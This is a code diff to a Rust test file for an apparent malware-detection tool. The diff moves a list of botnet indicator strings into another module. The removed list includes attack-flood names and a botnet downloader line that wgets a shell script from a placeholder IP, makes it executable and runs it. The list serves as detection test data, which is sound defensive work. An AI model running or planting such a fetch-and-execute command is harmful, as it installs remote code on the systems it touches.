@@ -6,14 +6,12 @@ use specimens::elf::{self, R, X, elf};
 use specimens::pe;
 use specimens::upx::upx;
 
+use crate::verdicts::{BOT_WORDS, report};
+
 fn report_within(bytes: &[u8], limits: Limits) -> Report {
     let rules = RuleSet::embedded();
     let mut analyzers: Analyzers<'_> = assemble(&rules);
     examine(bytes, &mut analyzers, &limits, &Cancel::default())
-}
-
-fn report(bytes: &[u8]) -> Report {
-    report_within(bytes, Limits::default())
 }
 
 /// Ids of what was seen in the layer of this name.
@@ -21,17 +19,6 @@ fn seen_in<'r>(report: &'r Report, layer: &str) -> Vec<&'r str> {
     let is_there = |seen: &&analyzers::Evidence| report.layers[seen.layer.index()].name == layer;
     report.evidence.iter().filter(is_there).map(|seen| seen.indicator.as_str()).collect()
 }
-
-const BOT_WORDS: &[&str] = &[
-    "UDPFLOOD",
-    "HTTPHEX",
-    "STOMP",
-    "/bin/busybox",
-    "wget http://198.51.100.7/bins.sh; chmod 777 bins.sh; sh bins.sh",
-    "/proc/net/tcp",
-    "GET /%s HTTP/1.1",
-    "Mozilla/5.0 (X11; Linux x86_64)",
-];
 
 #[test]
 fn what_a_packed_program_does_is_seen_inside_of_it() {
